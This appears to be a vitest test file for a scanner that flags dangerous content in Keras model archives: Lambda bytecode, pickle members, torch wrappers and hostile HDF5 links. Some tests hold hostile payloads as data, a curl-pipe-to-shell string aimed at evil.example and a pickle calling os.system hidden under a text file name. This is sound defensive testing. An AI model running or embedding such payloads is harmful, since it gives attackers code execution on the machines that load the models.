import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { kerasFormat, looksLikeKerasArchive } from '../../src/formats/keras.ts';
import { detectFormat } from '../../src/formats/index.ts';
import { createNodeSha256 } from '../../src/hash/node-sha256.ts';
import { createMemorySource } from '../../src/io/memory-source.ts';
import { createNodeFileSource } from '../../src/io/node-source.ts';
import type { FileReport } from '../../src/report/types.ts';
import { scanSource } from '../../src/scan.ts';
import { binunicode, call, global, pickle, proto, stop } from '../builders/pickle.ts';
import { type ZipEntrySpec, buildZip } from '../builders/zip.ts';

const FIXTURES = join(import.meta.dirname, '..', 'fixtures', 'keras');

async function scanFixture(file: string): Promise<FileReport> {
  return scanSource(await createNodeFileSource(join(FIXTURES, file), file), { createSha256: createNodeSha256 });
}

async function scanZip(specs: ZipEntrySpec[]): Promise<FileReport> {
  return scanSource(createMemorySource(buildZip(specs).bytes(), 'model.keras'), { createSha256: createNodeSha256 });
}

const rules = (report: FileReport) => report.findings.map((finding) => finding.rule);
const findingOf = (report: FileReport, rule: string) => report.findings.find((finding) => finding.rule === rule);

const METADATA = JSON.stringify({ keras_version: '3.5.0', date_saved: '2024-09-02@10:11:12' });
const CONFIG = JSON.stringify({ module: 'keras', class_name: 'Sequential', config: { name: 'sequential', layers: [{ module: 'keras.layers', class_name: 'Dense', config: { units: 2 }, registered_name: null }] }, registered_name: null });

describe('.keras fixtures written as Keras 3 writes them (make_fixtures.py)', () => {
  it.each([
    ['sequential.keras', 'clean', []],
    ['lambda.keras', 'dangerous', ['keras.lambda.bytecode']],
    ['custom_module.keras', 'dangerous', ['keras.object.dangerous-module', 'keras.object.unknown-module']],
    ['torch_wrapper.keras', 'dangerous', ['keras.torch-module-wrapper', 'pickle.import.process', 'pickle.call.dangerous']],
    ['string_lookup.keras', 'suspicious', ['keras.file-reference']],
    ['pickle_member.keras', 'dangerous', ['keras.archive.pickle-member', 'pickle.import.process', 'pickle.call.dangerous']],
  ] as const)('%s is %s with %j', async (file, verdict, expected) => {
    const report = await scanFixture(file);
    expect(report.format).toBe('keras');
    expect(report.verdict).toBe(verdict);
    // Zip layout notes (data descriptors of the torch.save zip inside the config) are info; the rest is exactly what is expected.
    expect(report.findings.filter((finding) => finding.severity !== 'info').map((finding) => finding.rule)).toEqual([...expected]);
    expect(report.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(report.metadata).toMatchObject({ kerasVersion: '3.5.0', dateSaved: '2024-09-02@10:11:12' });
  });

  it('sequential.keras: the weights in model.weights.h5 are tensors at file offsets (the member is stored)', async () => {
    const report = await scanFixture('sequential.keras');
    // model.weights.h5 data starts at 2443 (local header) + 30 + 16 (name); h5py put the datasets at 4496, 4896, 7264, 7600 in it.
    const base = 2443 + 30 + 16;
    expect(report.tensors).toEqual([
      { name: 'layers/dense/vars/0', dtype: '<f4', shape: [4, 8], offset: base + 4496, length: 128 },
      { name: 'layers/dense/vars/1', dtype: '<f4', shape: [8], offset: base + 4896, length: 32 },
      { name: 'layers/dense_1/vars/0', dtype: '<f4', shape: [8, 2], offset: base + 7264, length: 64 },
      { name: 'layers/dense_1/vars/1', dtype: '<f4', shape: [2], offset: base + 7600, length: 8 },
    ]);
    const bytes = await readFile(join(FIXTURES, 'sequential.keras'));
    const first = new Float32Array(bytes.buffer.slice(bytes.byteOffset + base + 4496, bytes.byteOffset + base + 4496 + 8));
    expect([...first].every((value) => Number.isFinite(value) && value !== 0)).toBe(true);
    expect(report.metadata).toMatchObject({
      model: { modelClass: 'Sequential', layers: 3, classes: { Dense: 2, Adam: 1 } },
      'weights model.weights.h5': { superblockVersion: 0, datasets: 4 },
      members: [{ path: 'metadata.json' }, { path: 'config.json' }, { path: 'model.weights.h5' }],
    });
  });

  it('lambda.keras: the finding names config.json, its offset and the JSON path', async () => {
    const report = await scanFixture('lambda.keras');
    const lambda = findingOf(report, 'keras.lambda.bytecode');
    expect(lambda?.location).toEqual({ entry: 'config.json', offset: 106 + 30 + 11 });
    expect(lambda?.evidence).toMatch(/^config\.layers\[2\]\.config\.function\.config\.code: 194 bytes of code/);
  });

  it('torch_wrapper.keras: the torch.save zip inside the config is inspected as a PyTorch checkpoint', async () => {
    const report = await scanFixture('torch_wrapper.keras');
    const call = findingOf(report, 'pickle.call.dangerous');
    expect(call?.evidence).toBe('posix.system("curl evil.example | sh")');
    expect(call?.location.entry).toBe('config.json#config.layers[1].config.module:archive/data.pkl');
    expect(report.weightsOnly).toBeUndefined();
    expect(rules(report)).not.toContain('pickle.weights-only.refused');
  });
});

describe('archives built byte by byte', () => {
  const weights = () => readFile(join(FIXTURES, 'sequential_v0.h5'));

  it('deflated members are read too; weight offsets are then unknown (-1)', async () => {
    const report = await scanZip([
      { name: 'metadata.json', data: METADATA, method: 8 },
      { name: 'config.json', data: CONFIG, method: 8 },
      { name: 'model.weights.h5', data: new Uint8Array(await weights()), method: 8 },
    ]);
    expect(report.format).toBe('keras');
    expect(report.verdict).toBe('clean');
    expect(report.tensors).toHaveLength(4);
    expect(report.tensors.every((tensor) => tensor.offset === -1)).toBe(true);
    expect(report.metadata).toMatchObject({ kerasVersion: '3.5.0', model: { layers: 1 } });
  });

  it('an HDF5 weights file that links outside itself is reported with the member name and file offsets', async () => {
    const hostile = new Uint8Array(await readFile(join(FIXTURES, 'hostile_links.h5')));
    const built = buildZip([
      { name: 'metadata.json', data: METADATA },
      { name: 'config.json', data: CONFIG },
      { name: 'model.weights.h5', data: hostile },
    ]);
    const report = await scanSource(createMemorySource(built.bytes(), 'model.keras'), { createSha256: createNodeSha256 });
    const external = findingOf(report, 'hdf5.link.external');
    expect(external?.location.entry).toBe('model.weights.h5');
    const direct = await scanFixture('hostile_links.h5');
    const dataOffset = report.findings.find((finding) => finding.rule === 'hdf5.link.external')!.location.offset! - direct.findings.find((finding) => finding.rule === 'hdf5.link.external')!.location.offset!;
    expect(dataOffset).toBeGreaterThan(0);
    expect(rules(report)).toEqual(expect.arrayContaining(['hdf5.link.external', 'hdf5.link.soft', 'hdf5.cycle', 'hdf5.dataset.external-storage', 'hdf5.dataset.shape-bomb']));
  });

  it('no config.json: malformed', async () => {
    const report = await scanSource(createMemorySource(buildZip([{ name: 'metadata.json', data: METADATA }, { name: 'assets/vocab.txt', data: 'a\nb\n' }]).bytes(), 'x.keras'), { createSha256: createNodeSha256 });
    expect(report.format).toBe('keras');
    expect(report.verdict).toBe('malformed');
    expect(rules(report)).toContain('keras.archive.no-config');
  });

  it.each([
    ['not JSON', '{"module": "keras", ', 'keras.config.invalid'],
    ['a JSON list', '[]', 'keras.config.invalid'],
  ])('config.json that is %s: malformed', async (_, text, rule) => {
    const report = await scanZip([{ name: 'config.json', data: text }, { name: 'metadata.json', data: METADATA }]);
    expect(report.verdict).toBe('malformed');
    expect(findingOf(report, rule)?.location.entry).toBe('config.json');
  });

  it('a member Keras does not write is reported; a pickle hidden under a text name is scanned as a pickle', async () => {
    const evil = pickle(proto(2), call(global('os', 'system'), binunicode('id')), stop());
    const report = await scanZip([
      { name: 'metadata.json', data: METADATA },
      { name: 'config.json', data: CONFIG },
      { name: 'notes/readme.txt', data: evil, method: 8 },
    ]);
    expect(report.verdict).toBe('dangerous');
    expect(rules(report)).toEqual(expect.arrayContaining(['keras.archive.unexpected-member', 'keras.archive.pickle-member', 'pickle.call.dangerous']));
    expect(findingOf(report, 'pickle.call.dangerous')?.location.entry).toBe('notes/readme.txt');
  });

  it('a text asset that merely starts like a protocol 0 pickle is not called one', async () => {
    const report = await scanZip([
      { name: 'metadata.json', data: METADATA },
      { name: 'config.json', data: CONFIG },
      { name: 'assets/vocab.txt', data: 'class\nfoo\nbar\n' },
    ]);
    expect(report.verdict).toBe('clean');
  });

  it('metadata.json that is not an object is noted, without changing the verdict', async () => {
    const report = await scanZip([{ name: 'metadata.json', data: 'nope' }, { name: 'config.json', data: CONFIG }]);
    expect(rules(report)).toContain('keras.metadata.invalid');
    expect(report.verdict).toBe('clean');
  });
});

describe('detection by content', () => {
  const head = (specs: ZipEntrySpec[]) => buildZip(specs).bytes().subarray(0, 65536);

  it.each([
    ['Keras 3 order', [{ name: 'metadata.json', data: '{}' }, { name: 'config.json', data: '{}' }, { name: 'model.weights.h5', data: 'x' }], true],
    ['config first', [{ name: 'config.json', data: '{}' }], true],
    ['a torch checkpoint', [{ name: 'archive/data.pkl', data: 'x' }, { name: 'archive/version', data: '3' }], false],
    ['an npz', [{ name: 'a.npy', data: 'x' }], false],
    ['a zip with config.json after other files', [{ name: 'readme.md', data: 'x' }, { name: 'config.json', data: '{}' }], false],
    ['Keras members after an added one', [{ name: 'x.pkl', data: 'x' }, { name: 'config.json', data: '{}' }, { name: 'model.weights.h5', data: 'x' }], true],
  ] as const)('%s', (_, specs, expected) => {
    const bytes = head([...specs]);
    expect(looksLikeKerasArchive(bytes)).toBe(expected);
    expect(kerasFormat.detect(bytes, 'model.zip')).toBe(expected);
  });

  it('the registry picks keras for a .keras archive and hdf5 for an .h5, whatever the name', async () => {
    const keras = new Uint8Array(await readFile(join(FIXTURES, 'sequential.keras')));
    const h5 = new Uint8Array(await readFile(join(FIXTURES, 'sequential_v0.h5')));
    expect(detectFormat(keras.subarray(0, 65536), 'weights.bin')?.id).toBe('keras');
    expect(detectFormat(h5.subarray(0, 65536), 'weights.bin')?.id).toBe('hdf5');
    // A pickle added first must not turn the archive into a "torch zip" whose config.json nobody walks.
    const reordered = buildZip([{ name: 'x.pkl', data: 'x' }, { name: 'config.json', data: CONFIG }, { name: 'model.weights.h5', data: 'x' }]).bytes();
    expect(detectFormat(reordered.subarray(0, 65536), 'model.keras')?.id).toBe('keras');
  });
});
